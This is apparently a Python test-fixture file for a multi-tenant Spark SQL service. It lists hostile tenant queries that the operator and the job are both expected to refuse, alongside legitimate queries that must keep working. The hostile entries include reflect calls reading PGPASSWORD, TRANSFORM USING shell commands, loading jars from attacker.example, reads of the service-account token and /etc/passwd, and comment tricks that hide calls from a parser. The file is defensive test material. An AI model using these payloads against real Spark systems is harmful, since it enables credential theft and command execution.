"""Hostile transforms a tenant may write, and legitimate ones that must keep working.

One corpus for three tests: the operator's verdicts (tests/unit/core/
test_sql_hostile.py), the job's on a real Spark session and the agreement of
both (tests/unit/spark_job/test_sql_guard.py), and the live operator
(tests/e2e/test_hostile_transforms.py), whose results feed docs/security.md.
POSITIONS, every clause of a query where Spark takes an expression, is where
both layers' tests call each function off the allowlist
(tests/unit/spark_job/test_sql_guard_walk.py, tests/unit/core/test_sql_policy.py).
Every hostile transform is refused first by the operator (layer "operator":
Stalled before any job; one is too long for the API server's schema, layer
"admission") and again by the job; `operator` and `job` are a part of
each one's message, `reason` the operator's Stalled reason.
"""

from __future__ import annotations

from dataclasses import dataclass

SCHEMA = "order_id STRING, customer_id STRING, amount DOUBLE, ts TIMESTAMP"
"""The events' fields in every test of the corpus (the e2e topic's schema)."""
ENV = "reflect('java.lang.System', 'getenv', 'PGPASSWORD')"
ENV_DQ = 'reflect("java.lang.System", "getenv", "PGPASSWORD")'
JVM = "reaches the JVM"
COMMAND = "is a command, not a query"
UDT = ('{"type":"udt","class":"java.util.Timer","pyClass":null,"sqlType":"string"}')
"""A JSON type naming a class: Spark 4.0 loads and instantiates it while analysing (a
java.util.Timer starts a thread in the driver)."""


def struct_of(field_type: str) -> str:
    """A JSON struct schema with one field `a` of the given JSON type."""
    return ('{"type":"struct","fields":[{"name":"a","type":' + field_type
            + ',"nullable":true,"metadata":{}}]}')


UDT_STRUCT = struct_of(UDT)
UDT_DEEP = struct_of('{"type":"array","elementType":{"type":"map","keyType":"string",'
                     '"valueType":' + struct_of(UDT) + ',"valueContainsNull":true},'
                     '"containsNull":true}')
UDT_WORDS = 'holds a user-defined type ("udt")'
OPTION_WORDS = "is not one a view may set"
LITERAL_WORDS = "must be a string literal"


@dataclass(frozen=True)
class Hostile:
    cls: str
    what: str
    text: str
    operator: str
    """A part of the operator's message."""
    job: str
    """A part of the job's message."""
    reason: str = "PolicyViolation"
    layer: str = "operator"
    """Who refuses first: "operator" (Stalled, no job) or "admission" (the API server's
    schema; the operator's own check refuses it too)."""


def _h(cls: str, what: str, text: str, operator: str, job: str,
       reason: str = "PolicyViolation", layer: str = "operator") -> Hostile:
    return Hostile(cls, what, text, operator, job, reason, layer)


LEXER = "comment and lexer tricks"
EXECUTE = "EXECUTE IMMEDIATE"
SUBST = "variable substitution"
REFLECT = "reflection"
SCRIPT = "TRANSFORM USING"
CMD = "commands"
FILES = "file and catalog relations"
TVF = "table-valued functions"
FUNC = "functions not on the allowlist"
SCHEMA_ARGS = "types and options Spark reads while analysing"
RESOURCE = "resource abuse"

HOSTILE: list[Hostile] = [
    # Spark continues a `--` comment after a backslash, sqlglot does not: here sqlglot sees
    # a /* comment over the reflect line, Spark sees the reflect call.
    _h(LEXER, "a backslash continues a -- comment, hiding a call from sqlglot",
       f"SELECT order_id -- x\\\n/*\n, {ENV_DQ} AS p\n-- */\nFROM events",
       "ends in a backslash", "ends in a backslash"),
    _h(LEXER, "a backslash continues a -- comment over a second statement",
       "SELECT order_id FROM events -- x\\\n; EXECUTE IMMEDIATE \"SELECT TRANSFORM(order_id) "
       "USING 'env' AS (e) FROM events\"",
       "ends in a backslash", "ends in a backslash"),
    _h(LEXER, "a nested bracketed comment ends later in Spark",
       f"SELECT order_id, /* /* */ '*/ {ENV_DQ} AS p, /* ' */ 1 AS one FROM events",
       "a /* comment inside the comment", JVM),
    _h(LEXER, "an unclosed bracketed comment",
       f"SELECT order_id FROM events /* {ENV}", "is not closed", "UNCLOSED_BRACKETED_COMMENT",
       ),
    _h(LEXER, "a NUL character", "SELECT order_id FROM events\x00; ADD JAR x.jar",
       "control character", "control character"),
    _h(LEXER, "a form feed before a second statement",
       "SELECT order_id FROM events\x0c; SET spark.sql.runSQLOnFiles=true",
       "control character", "control character"),
    _h(LEXER, "a comment inside a hint",
       f"SELECT /*+ BROADCAST(e) -- */ {ENV} */ order_id FROM events e",
       "the hint", "PARSE_SYNTAX_ERROR"),
    _h(LEXER, "a raw string ending in a backslash",
       f"SELECT R'\\' AS a, {ENV_DQ} AS p, '' AS b FROM events", JVM, JVM),
    _h(LEXER, "a double-quoted string holding a quote",
       f"SELECT \"it's\" AS a, {ENV} AS p FROM events", JVM, JVM),
    _h(LEXER, "an escaped quote in a string",
       f"SELECT 'a\\'' AS a, {ENV} AS p FROM events", JVM, JVM),
    _h(LEXER, "a second statement after a comment",
       "SELECT order_id FROM events /* c */ ; EXECUTE /* x */ IMMEDIATE 'SELECT 1'",
       "EXECUTE IMMEDIATE runs a string", "PARSE_SYNTAX_ERROR"),

    _h(EXECUTE, "EXECUTE IMMEDIATE a shell command",
       "EXECUTE IMMEDIATE \"SELECT TRANSFORM(order_id) USING 'env' AS (e) FROM events\"",
       "EXECUTE IMMEDIATE runs a string", "EXECUTE IMMEDIATE runs a string"),
    _h(EXECUTE, "EXECUTE IMMEDIATE a function from a jar",
       "EXECUTE IMMEDIATE \"CREATE TEMPORARY FUNCTION f AS 'x.Y' USING JAR "
       "'https://attacker.example/a.jar'\"",
       "EXECUTE IMMEDIATE runs a string", "EXECUTE IMMEDIATE runs a string"),
    _h(EXECUTE, "EXECUTE IMMEDIATE a write to files",
       "EXECUTE IMMEDIATE \"INSERT OVERWRITE DIRECTORY '/tmp/x' SELECT * FROM events\"",
       "EXECUTE IMMEDIATE runs a string", "EXECUTE IMMEDIATE runs a string"),
    _h(EXECUTE, "execute immediate in lower case, reflection inside",
       f"execute immediate \"SELECT {ENV} AS p\"",
       "EXECUTE IMMEDIATE runs a string", "EXECUTE IMMEDIATE runs a string"),
    _h(EXECUTE, "EXECUTE IMMEDIATE across lines and tabs",
       "EXECUTE\n\tIMMEDIATE 'SELECT 1 AS a'",
       "EXECUTE IMMEDIATE runs a string", "EXECUTE IMMEDIATE runs a string"),
    _h(EXECUTE, "EXECUTE IMMEDIATE with parameters",
       "EXECUTE IMMEDIATE 'SELECT ? AS a' USING 1",
       "EXECUTE IMMEDIATE runs a string", "EXECUTE IMMEDIATE runs a string"),

    _h(SUBST, "the sink password from the environment",
       "SELECT '${env:PGPASSWORD}' AS p, order_id FROM events", "`${`", "`${`"),
    _h(SUBST, "a JVM system property", "SELECT '${system:user.home}' AS p FROM events",
       "`${`", "`${`"),
    _h(SUBST, "a Spark setting", "SELECT '${spark.app.name}' AS p FROM events", "`${`", "`${`"),
    _h(SUBST, "a Hive variable", "SELECT order_id FROM ${hivevar:t}", "`${`", "`${`"),
    _h(SUBST, "substitution inside a comment",
       "SELECT order_id FROM events -- ${env:PGPASSWORD}", "`${`", "`${`"),

    _h(REFLECT, "reflect", f"SELECT order_id, {ENV} AS amount FROM events", JVM, JVM),
    _h(REFLECT, "REFLECT in capitals",
       "SELECT REFLECT('java.lang.System', 'getenv', 'HOME') AS h FROM events", JVM, JVM),
    _h(REFLECT, "java_method, back-quoted",
       "SELECT `java_method`('java.lang.Runtime', 'getRuntime') AS h FROM events", JVM, JVM),
    _h(REFLECT, "try_reflect", "SELECT try_reflect('a', 'b') AS h FROM events", JVM, JVM),
    _h(REFLECT, "reflect in a CTE",
       f"WITH a AS (SELECT {ENV} AS r FROM events) SELECT * FROM a", JVM, JVM),
    _h(REFLECT, "java_method in an IN subquery",
       "SELECT * FROM events WHERE order_id IN (SELECT java_method('a', 'b'))", JVM, JVM),
    _h(REFLECT, "reflect two subqueries deep",
       f"SELECT * FROM events WHERE EXISTS (SELECT 1 FROM (SELECT {ENV}))", JVM, JVM),
    _h(REFLECT, "reflect in a lambda",
       f"SELECT order_id, aggregate(array(1), 0D, (acc, x) -> acc + length({ENV})) AS a "
       "FROM events", JVM, JVM),
    _h(REFLECT, "reflect in ORDER BY",
       f"SELECT order_id FROM events ORDER BY {ENV}", JVM, JVM),
    _h(REFLECT, "reflect in a window",
       f"SELECT order_id, row_number() OVER (ORDER BY {ENV}) AS n FROM events", JVM, JVM),
    _h(REFLECT, "reflect in LATERAL VIEW",
       f"SELECT order_id, c FROM events LATERAL VIEW explode(array({ENV})) t AS c", JVM, JVM),
    _h(REFLECT, "java_method in a hint",
       "SELECT /*+ REPARTITION(java_method(order_id, order_id)) */ order_id FROM events",
       JVM, "a hint's parameters may only be column names and numbers"),
    _h(REFLECT, "reflect through IDENTIFIER()",
       "SELECT IDENTIFIER('reflect')('java.lang.System', 'getenv', 'X') AS p FROM events",
       "PARSE_SYNTAX_ERROR", "IDENTIFIER(...) names a function", reason="InvalidTransform"),
    _h(REFLECT, "reflect qualified as a built-in",
       f"SELECT system.builtin.{ENV} AS p FROM events",
       "qualified function name", "is not a built-in function a view may call"),

    _h(SCRIPT, "a shell command",
       "SELECT TRANSFORM(order_id, amount) USING 'cat /etc/passwd' AS (order_id, amount) "
       "FROM events", "TRANSFORM ... USING runs a command", "TRANSFORM ... USING runs a command"),
    _h(SCRIPT, "a shell command in a subquery",
       "SELECT * FROM (SELECT TRANSFORM(order_id) USING 'env' AS (e) FROM events) s",
       "TRANSFORM ... USING runs a command", "TRANSFORM ... USING runs a command"),
    _h(SCRIPT, "a shell command with a row format",
       "SELECT TRANSFORM(order_id) ROW FORMAT DELIMITED FIELDS TERMINATED BY ',' "
       "USING 'sh -c id' AS (e) FROM events",
       "TRANSFORM ... USING runs a command", "TRANSFORM ... USING runs a command"),

    _h(CMD, "SET a setting", "SET spark.sql.runSQLOnFiles=true", COMMAND, COMMAND),
    _h(CMD, "SET, listing the settings", "SET", COMMAND, COMMAND),
    _h(CMD, "RESET", "RESET", COMMAND, COMMAND),
    _h(CMD, "ADD JAR", "ADD JAR https://attacker.example/a.jar", "ADD JAR", "ADD JARS"),
    _h(CMD, "ADD FILE", "ADD FILE /etc/passwd", "ADD FILE", "ADD FILES"),
    _h(CMD, "ADD ARCHIVE", "ADD ARCHIVE https://attacker.example/a.zip", "ADD ARCHIVE",
       "ADD ARCHIVES"),
    _h(CMD, "CREATE TABLE AS", "CREATE TABLE t AS SELECT * FROM events", COMMAND, COMMAND),
    _h(CMD, "CREATE TEMPORARY VIEW",
       "CREATE TEMPORARY VIEW v AS SELECT * FROM events", COMMAND, COMMAND),
    _h(CMD, "CREATE TEMPORARY FUNCTION from a jar",
       "CREATE TEMPORARY FUNCTION f AS 'x.Y' USING JAR 'https://attacker.example/a.jar'",
       COMMAND, COMMAND),
    _h(CMD, "DROP VIEW", "DROP VIEW events", COMMAND, COMMAND),
    _h(CMD, "INSERT INTO", "INSERT INTO t SELECT * FROM events", COMMAND, COMMAND),
    _h(CMD, "INSERT OVERWRITE DIRECTORY",
       "INSERT OVERWRITE DIRECTORY '/tmp/out' SELECT * FROM events",
       "INSERT OVERWRITE is a command", "INSERT INTO DIR is a command"),
    _h(CMD, "CACHE TABLE", "CACHE TABLE events", COMMAND, COMMAND),
    _h(CMD, "UNCACHE TABLE", "UNCACHE TABLE events", COMMAND, COMMAND),
    _h(CMD, "REFRESH a path", "REFRESH '/etc'", COMMAND, COMMAND),
    _h(CMD, "MSCK REPAIR TABLE", "MSCK REPAIR TABLE t", COMMAND, COMMAND),
    _h(CMD, "ANALYZE TABLE", "ANALYZE TABLE events COMPUTE STATISTICS", COMMAND, COMMAND),
    _h(CMD, "DESCRIBE", "DESCRIBE events", COMMAND, COMMAND),
    _h(CMD, "SHOW TABLES", "SHOW TABLES", COMMAND, COMMAND),
    _h(CMD, "EXPLAIN", "EXPLAIN SELECT * FROM events", COMMAND, COMMAND),
    _h(CMD, "USE a database", "USE other", COMMAND, COMMAND),
    _h(CMD, "CALL a procedure", "CALL sys.p(1)", COMMAND, "plan node Call"),
    _h(CMD, "DECLARE a variable", "DECLARE VARIABLE x INT DEFAULT 1", COMMAND, COMMAND),

    _h(FILES, "a local file", "SELECT * FROM csv.`file:///etc/passwd`",
       "reads a file or a catalog table", "reads a file or a catalog table"),
    _h(FILES, "the service account token",
       "SELECT * FROM text.`/var/run/secrets/kubernetes.io/serviceaccount/token`",
       "reads a file or a catalog table", "reads a file or a catalog table"),
    _h(FILES, "an object store path", "SELECT * FROM parquet.`s3a://bucket/x`",
       "reads a file or a catalog table", "reads a file or a catalog table"),
    _h(FILES, "a catalog table", "SELECT * FROM spark_catalog.default.secrets",
       "reads a file or a catalog table", "reads a file or a catalog table"),
    _h(FILES, "a file joined to events",
       "SELECT e.order_id, f.value FROM events e JOIN text.`/etc/hosts` f ON true",
       "reads a file or a catalog table", "reads a file or a catalog table"),
    _h(FILES, "a file through IDENTIFIER()",
       "SELECT * FROM IDENTIFIER('text.`/etc/hosts`')",
       "identifier() is not a built-in function", "PlanWithUnresolvedIdentifier"),

    _h(TVF, "sql_keywords()", "SELECT * FROM sql_keywords()",
       "sql_keywords() is not a built-in function", "is not a generator over its arguments"),
    _h(TVF, "collations()", "SELECT * FROM collations()",
       "collations() is not a built-in function", "is not a generator over its arguments"),
    _h(TVF, "read_files()", "SELECT * FROM read_files('/etc/passwd')",
       "read_files() is not a built-in function", "is not a generator over its arguments"),

    _h(FUNC, "input_file_name()", "SELECT input_file_name() AS f, order_id FROM events",
       "names the job's input files", "names the job's input files"),
    _h(FUNC, "xpath_string() (XML external entities)",
       "SELECT xpath_string(order_id, '/a') AS x FROM events",
       "xpath_string() is not a built-in function", "xpath_string() is not a built-in"),
    _h(FUNC, "from_xml()", "SELECT from_xml(order_id, 'a INT') AS x FROM events",
       "from_xml() is not a built-in function", "from_xml() is not a built-in"),
    _h(FUNC, "from_protobuf() with a descriptor file",
       "SELECT from_protobuf(order_id, 'M', '/etc/passwd') AS x FROM events",
       "reads a descriptor file", "reads a descriptor file"),
    _h(FUNC, "a function nobody registered", "SELECT my_udf(order_id) AS x FROM events",
       "my_udf() is not a built-in function", "my_udf() is not a built-in function"),
    _h(FUNC, "xpath_string() in a named WINDOW clause",
       "SELECT order_id, row_number() OVER w AS n FROM events "
       "WINDOW w AS (PARTITION BY order_id ORDER BY xpath_string(order_id, '/a'))",
       "xpath_string() is not a built-in function", "xpath_string() is not a built-in"),
    _h(FUNC, "from_xml() in a named window's PARTITION BY",
       "SELECT order_id, sum(amount) OVER w AS s FROM events "
       "WINDOW w AS (PARTITION BY from_xml(order_id, 'a INT'))",
       "from_xml() is not a built-in function", "from_xml() is not a built-in"),
    _h(FUNC, "input_file_name() in a pipe |> SET",
       "SELECT * FROM events |> SET order_id = input_file_name()",
       "Unsupported pipe syntax operator", "names the job's input files",
       reason="InvalidTransform"),
    _h(FUNC, "from_avro() reading avroSchemaUrl in a pipe |> SET",
       "FROM events |> SET order_id = from_avro(binary(order_id), '\"string\"', "
       "map('avroSchemaUrl', 'http://attacker.example/s.avsc'))",
       "Unsupported pipe syntax operator", "from_avro() reads the files and URLs its options name",
       reason="InvalidTransform"),
    _h(FUNC, "input_file_name() in a lambda in a window in a subquery in a pipe",
       "FROM events |> EXTEND (SELECT max(n) FROM (SELECT row_number() OVER w AS n "
       "FROM events WINDOW w AS (ORDER BY aggregate(array(1), 0, "
       "(acc, x) -> acc + length(input_file_name()))))) AS m",
       "names the job's input files", "names the job's input files"),
    _h(FUNC, "input_file_name() in TABLESAMPLE ... ROWS",
       "SELECT * FROM events TABLESAMPLE (length(input_file_name()) ROWS)",
       "PARSE_SYNTAX_ERROR", "names the job's input files", reason="InvalidTransform"),

    _h(SCHEMA_ARGS, "a class in from_json()'s JSON schema",
       f"SELECT from_json(order_id, '{UDT_STRUCT}') AS x FROM events", UDT_WORDS, UDT_WORDS),
    _h(SCHEMA_ARGS, "a class as the whole type of from_json()",
       f"SELECT from_json(order_id, '{UDT}') AS x FROM events", UDT_WORDS, UDT_WORDS),
    _h(SCHEMA_ARGS, "a class deep in an array of a map of a struct",
       f"SELECT from_json(order_id, '{UDT_DEEP}') AS x FROM events", UDT_WORDS, UDT_WORDS),
    _h(SCHEMA_ARGS, "a Python user-defined type",
       "SELECT from_json(order_id, '" + struct_of(
           '{"type":"udt","pyClass":"m.T","serializedClass":"x","sqlType":"string"}')
       + "') AS x FROM events", UDT_WORDS, UDT_WORDS),
    _h(SCHEMA_ARGS, "a class in FROM_JSON() in capitals, in a lambda",
       f"SELECT transform(array(order_id), x -> FROM_JSON(x, '{UDT_STRUCT}')) AS x "
       "FROM events", UDT_WORDS, UDT_WORDS),
    _h(SCHEMA_ARGS, "a class in from_csv()'s schema",
       f"SELECT from_csv(order_id, '{UDT_STRUCT}') AS x FROM events", UDT_WORDS, UDT_WORDS),
    _h(SCHEMA_ARGS, "a class in variant_get()'s type",
       f"SELECT variant_get(parse_json(order_id), '$', '{UDT}') AS x FROM events",
       UDT_WORDS, UDT_WORDS),
    _h(SCHEMA_ARGS, "a class in try_variant_get()'s type, in a window's ORDER BY",
       "SELECT row_number() OVER (ORDER BY try_variant_get(parse_json(order_id), '$', "
       f"'{UDT}')) AS n FROM events", UDT_WORDS, UDT_WORDS),
    _h(SCHEMA_ARGS, "a class spelt with a SQL unicode escape",
       "SELECT from_json(order_id, '" + UDT_STRUCT.replace('"udt"', '"\\u0075dt"')
       + "') AS x FROM events", LITERAL_WORDS, UDT_WORDS),
    _h(SCHEMA_ARGS, "a class behind a duplicated JSON key",
       "SELECT from_json(order_id, '" + struct_of(
           '{"type":"string","type":"udt","class":"java.util.Timer","pyClass":null,'
           '"sqlType":"string"}') + "') AS x FROM events",
       "JSON read strictly", "JSON read strictly"),
    _h(SCHEMA_ARGS, "a schema computed by schema_of_json()",
       "SELECT from_json(order_id, schema_of_json('{\"a\": 1}')) AS x FROM events",
       LITERAL_WORDS, LITERAL_WORDS),
    _h(SCHEMA_ARGS, "a schema built by concat()",
       "SELECT from_json(order_id, concat('{\"type\":\"udt\",', "
       "'\"class\":\"java.util.Timer\",\"pyClass\":null,\"sqlType\":\"string\"}')) "
       "AS x FROM events", LITERAL_WORDS, LITERAL_WORDS),
    _h(SCHEMA_ARGS, "a class name as a DDL type",
       "SELECT from_json(order_id, 'a java.util.Timer') AS x FROM events",
       "is not DDL the check reads", "is not a type Spark reads"),
    _h(SCHEMA_ARGS, "compression naming a class in from_json()'s options",
       "SELECT from_json(order_id, 'a INT', map('compression', 'java.util.Timer')) AS x "
       "FROM events", OPTION_WORDS, OPTION_WORDS),
    _h(SCHEMA_ARGS, "Compression in mixed case in to_json()'s options",
       "SELECT to_json(named_struct('a', amount), MAP('Compression', 'java.util.Timer')) "
       "AS x FROM events", OPTION_WORDS, OPTION_WORDS),
    _h(SCHEMA_ARGS, "avroSchemaUrl in from_json()'s options",
       "SELECT from_json(order_id, 'a INT', map('avroSchemaUrl', "
       "'http://attacker.example/s.avsc')) AS x FROM events", OPTION_WORDS, OPTION_WORDS),
    _h(SCHEMA_ARGS, "a charset in schema_of_csv()'s options",
       "SELECT schema_of_csv('1,2', map('encoding', 'x-evil')) AS x FROM events",
       OPTION_WORDS, OPTION_WORDS),
    _h(SCHEMA_ARGS, "options computed by str_to_map()",
       "SELECT from_json(order_id, 'a INT', str_to_map('compression:java.util.Timer')) AS x "
       "FROM events", "options must be map(", "options must be map("),

    _h(RESOURCE, "80 nested calls",
       "SELECT " + "abs(" * 80 + "amount" + ")" * 80 + " AS a FROM events",
       "nests deeper than 64", "nests deeper than 64"),
    _h(RESOURCE, "a chain of 100 additions",
       "SELECT " + " + ".join(["amount"] * 100) + " AS a FROM events",
       "nests deeper than 64", "nests deeper than 64"),
    _h(RESOURCE, "300 nested calls",
       "SELECT " + "abs(" * 300 + "amount" + ")" * 300 + " AS a FROM events",
       "nests deeper than 64", "nests deeper than 64"),
    _h(RESOURCE, "300 nested subqueries",
       "SELECT * FROM " + "(SELECT * FROM " * 300 + "events" + ") s" * 300,
       "nests deeper than 64", "nests deeper than 64"),
    _h(RESOURCE, "300 nested parentheses",
       "SELECT " + "(" * 300 + "amount" + ")" * 300 + " AS a FROM events",
       "nests deeper than 64 levels of parentheses", "nests deeper than 64 levels of parentheses"),
    _h(RESOURCE, "a 32 K identifier",
       "SELECT " + "a" * 32768 + " FROM events", "cannot be resolved", "UNRESOLVED_COLUMN",
       reason="InvalidTransform"),
    _h(RESOURCE, "70 K of SQL",
       "SELECT order_id" + ", amount AS a" * 5500 + " FROM events",
       "65536", "more than the 65536", reason="", layer="admission"),
]

LEGITIMATE: list[tuple[str, str]] = [
    ("an aggregate", "SELECT customer_id, count(*) AS orders, sum(amount) AS revenue "
                     "FROM events GROUP BY customer_id"),
    ("a CTE with a window",
     "WITH latest AS (SELECT *, row_number() OVER (PARTITION BY order_id ORDER BY "
     "_kafka_offset DESC) AS n FROM events) SELECT order_id, amount FROM latest WHERE n = 1"),
    ("LATERAL VIEW explode",
     "SELECT e.order_id, c FROM events e LATERAL VIEW explode(array(1, 2)) t AS c"),
    ("UNION ALL", "SELECT order_id FROM events UNION ALL SELECT order_id FROM events"),
    ("inline VALUES", "SELECT * FROM VALUES (1, 2) AS t(a, b)"),
    ("range", "SELECT id FROM range(10)"),
    ("a higher-order function",
     "SELECT order_id, transform(array(amount), x -> x * 2) AS doubled FROM events"),
    ("from_json and struct access",
     "SELECT order_id, from_json('{\"a\": 1}', 'a INT').a AS a FROM events"),
    ("CASE", "SELECT order_id, CASE WHEN amount > 100 THEN 'big' ELSE 'small' END AS size "
             "FROM events"),
    ("a -- comment without a backslash",
     "SELECT order_id -- the key\n, amount FROM events"),
    ("a /* */ comment", "SELECT order_id /* the key */, amount FROM events"),
    ("strings holding --, /* and ;",
     "SELECT order_id, concat('a -- b', '/* c */', ';', \"d -- e\") AS s FROM events"),
    ("backslash escapes in strings",
     "SELECT order_id, 'it\\'s' AS a, 'tab\\there' AS b, \"say \\\"hi\\\"\" AS c "
     "FROM events"),
    ("a raw string", "SELECT order_id, regexp_extract(order_id, R'(\\d+)', 1) AS n FROM events"),
    ("date and time functions",
     "SELECT order_id, date_trunc('HOUR', ts) AS h, date_format(ts, 'yyyy-MM-dd') AS d "
     "FROM events"),
    ("a time window", "SELECT window(ts, '1 hour').start AS w, count(*) AS n FROM events "
                      "GROUP BY window(ts, '1 hour')"),
    ("a hint", "SELECT /*+ REPARTITION(4) */ order_id FROM events"),
    ("hashing and JSON", "SELECT sha2(order_id, 256) AS h, to_json(named_struct('a', amount)) "
                         "AS j FROM events"),
    ("a join of events with itself",
     "SELECT a.order_id, b.amount FROM events a JOIN events b ON a.order_id = b.order_id"),
    ("a scalar subquery and HAVING",
     "SELECT customer_id, sum(amount) AS s FROM events GROUP BY customer_id "
     "HAVING sum(amount) > (SELECT avg(amount) FROM events)"),
    ("assert_true and raise_error", "SELECT order_id, assert_true(amount >= 0) AS ok, "
     "CASE WHEN amount < -1 THEN raise_error('negative') END AS e FROM events"),
]
"""(what, SQL): both layers allow every one."""

ALLOWED = "upper('a')"
"""An allowlisted call that makes every position of POSITIONS a valid query, but those of
FILLERS."""
FILLERS = {"hint": "order_id", "LATERAL VIEW generator": "explode(array(1))",
           "table-valued function": "explode(array(1))"}
"""What makes these positions valid queries: a hint takes columns, the others generators."""
POSITIONS: list[tuple[str, str]] = [
    ("SELECT list", "SELECT {f} AS x FROM events"),
    ("WHERE", "SELECT order_id FROM events WHERE {f} IS NOT NULL"),
    ("GROUP BY", "SELECT count(*) AS n FROM events GROUP BY {f}"),
    ("GROUP BY ROLLUP", "SELECT count(*) AS n FROM events GROUP BY ROLLUP({f})"),
    ("HAVING",
     "SELECT customer_id FROM events GROUP BY customer_id HAVING max({f}) IS NOT NULL"),
    ("aggregate FILTER", "SELECT count(*) FILTER (WHERE {f} IS NULL) AS n FROM events"),
    ("WITHIN GROUP",
     "SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY length({f})) AS p FROM events"),
    ("ORDER BY", "SELECT order_id FROM events ORDER BY {f}"),
    ("DISTRIBUTE BY", "SELECT order_id FROM events DISTRIBUTE BY {f}"),
    ("window PARTITION BY",
     "SELECT row_number() OVER (PARTITION BY {f} ORDER BY ts) AS n FROM events"),
    ("window ORDER BY", "SELECT row_number() OVER (ORDER BY {f}) AS n FROM events"),
    ("named WINDOW clause", "SELECT row_number() OVER w AS n FROM events "
                            "WINDOW w AS (PARTITION BY order_id ORDER BY {f})"),
    ("lambda body", "SELECT transform(array(order_id), x -> {f}) AS t FROM events"),
    ("lambda in a named window in a subquery",
     "SELECT * FROM (SELECT row_number() OVER w AS n FROM events WINDOW w AS "
     "(ORDER BY aggregate(array(1), 0, (acc, y) -> acc + length({f}))))"),
    ("scalar subquery in SELECT", "SELECT (SELECT max({f}) FROM events) AS m FROM events"),
    ("IN subquery in WHERE",
     "SELECT order_id FROM events WHERE order_id IN (SELECT {f} FROM events)"),
    ("EXISTS subquery",
     "SELECT order_id FROM events WHERE EXISTS (SELECT 1 FROM events e WHERE {f} IS NULL)"),
    ("subquery in FROM", "SELECT * FROM (SELECT {f} AS x FROM events) s"),
    ("LATERAL subquery", "SELECT e.order_id, l.x FROM events e, LATERAL (SELECT {f} AS x) l"),
    ("CTE", "WITH c AS (SELECT {f} AS x FROM events) SELECT * FROM c"),
    ("JOIN ON", "SELECT a.order_id FROM events a JOIN events b ON {f} = b.order_id"),
    ("UNION branch", "SELECT order_id FROM events UNION ALL SELECT {f} FROM events"),
    ("pipe |> SET", "FROM events |> SET order_id = {f}"),
    ("pipe |> EXTEND", "FROM events |> EXTEND {f} AS x"),
    ("pipe |> WHERE", "FROM events |> WHERE {f} IS NOT NULL"),
    ("pipe |> SELECT", "FROM events |> SELECT {f} AS x"),
    ("pipe |> AGGREGATE", "FROM events |> AGGREGATE max({f}) AS m GROUP BY order_id"),
    ("pipe |> ORDER BY", "FROM events |> ORDER BY {f}"),
    ("pipe, window, subquery and lambda",
     "FROM events |> EXTEND (SELECT max(n) FROM (SELECT row_number() OVER w AS n FROM events "
     "WINDOW w AS (ORDER BY aggregate(array(1), 0, (acc, y) -> acc + length({f}))))) AS m"),
    ("LATERAL VIEW", "SELECT order_id, c FROM events LATERAL VIEW explode(array({f})) t AS c"),
    ("generator in SELECT", "SELECT explode(array({f})) AS c FROM events"),
    ("table-valued function argument", "SELECT * FROM explode(array({f}))"),
    ("TABLESAMPLE ROWS", "SELECT * FROM events TABLESAMPLE (length({f}) ROWS)"),
    ("LIMIT", "SELECT order_id FROM events LIMIT length({f})"),
    ("VALUES", "SELECT * FROM VALUES ({f}) AS t(a)"),
    ("CASE WHEN", "SELECT CASE WHEN {f} IS NULL THEN 1 END AS c FROM events"),
    ("CAST", "SELECT CAST({f} AS STRING) AS c FROM events"),
    ("named argument", "SELECT mask(order_id, upperChar => {f}) AS m FROM events"),
    ("struct field of a call", "SELECT named_struct('a', {f}).a AS a FROM events"),
    ("hint", "SELECT /*+ REPARTITION({f}) */ order_id FROM events"),
    ("LATERAL VIEW generator", "SELECT order_id, c FROM events LATERAL VIEW {f} t AS c"),
    ("table-valued function", "SELECT * FROM {f}"),
]
"""Every place Spark 4.0's grammar takes an expression in a query, `{f}` the expression.
(A window frame bound must be a literal: Spark's parser refuses a call there itself.)"""
